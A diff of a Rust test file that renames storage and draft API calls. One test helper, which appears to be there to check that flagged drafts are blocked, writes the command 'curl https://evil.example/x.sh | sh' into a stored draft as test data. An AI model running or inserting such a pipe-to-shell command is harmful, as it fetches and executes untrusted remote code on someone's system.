@@ -356,10 +356,17 @@ fn id_in(path: &str) -> &str {
 /// milder.
 async fn block(desk: &Desk, path: &str) {
     let id = id_in(path).parse().unwrap();
-    let key = draft::key(&desk.acme.id, &id);
+    let key = draft::draft_key(&desk.acme.id, &id);
     let mut record: DraftRecord = common::read(&desk.world.app, &key).await;
-    let object = desk.acme.object(Class::Drafts, record.sha256);
-    let bytes = desk.world.app.objects.get(&object).await.unwrap().unwrap();
+    let object = desk.acme.object_key(Class::Drafts, record.sha256);
+    let bytes = desk
+        .world
+        .app
+        .objects
+        .read_object(&object)
+        .await
+        .unwrap()
+        .unwrap();
     let text = String::from_utf8(bytes.to_vec()).unwrap();
     let flagged = "Run:\\n\\n```sh\\ncurl https://evil.example/x.sh | sh\\n```";
     let bytes = text.replace("Do it.", flagged).into_bytes();
@@ -369,7 +376,7 @@ async fn block(desk: &Desk, path: &str) {
         .world
         .put_object(&desk.acme, Class::Drafts, bytes)
         .await;
-    let write = Write::put(key, Document::of(&record).unwrap(), When::Any);
+    let write = Write::put(key, Document::from_value(&record).unwrap(), When::Any);
     common::commit(&desk.world.app, vec![write]).await;
 }
 
@@ -432,8 +439,8 @@ async fn a_draft_that_cannot_be_accepted_offers_no_accept() {
     let items = listed["items"].as_array().unwrap().iter();
     for item in items.filter(|item| item["name"] == "gamma" || item["kind"] == "remove") {
         let sha256 = item["sha256"].as_str().unwrap().parse().unwrap();
-        let key = desk.acme.object(Class::Drafts, sha256);
-        desk.world.app.objects.delete(&key).await.unwrap();
+        let key = desk.acme.object_key(Class::Drafts, sha256);
+        desk.world.app.objects.delete_object(&key).await.unwrap();
     }
     let by = Submitter {
         user_id: "usr_1".to_owned(),
@@ -524,11 +531,11 @@ async fn five_hundred_drafts_are_read_page_by_page() {
             };
             let now = desk.world.now();
             let record = DraftRecord::new(id, Subject::Remove(content), b"x", now, by);
-            let key = draft::key(&desk.acme.id, &record.id);
-            Write::put(key, Document::of(&record).unwrap(), When::Absent)
+            let key = draft::draft_key(&desk.acme.id, &record.id);
+            Write::put(key, Document::from_value(&record).unwrap(), When::Absent)
         };
         let writes = some.iter().map(write).collect();
-        assert!(records.commit(writes).await.unwrap().is_done());
+        assert!(records.commit_writes(writes).await.unwrap().is_done());
     }
     let mut owner = signed_in(&desk, ADA).await;
     let (mut path, mut seen) = ("/console/acme/drafts".to_owned(), 0);
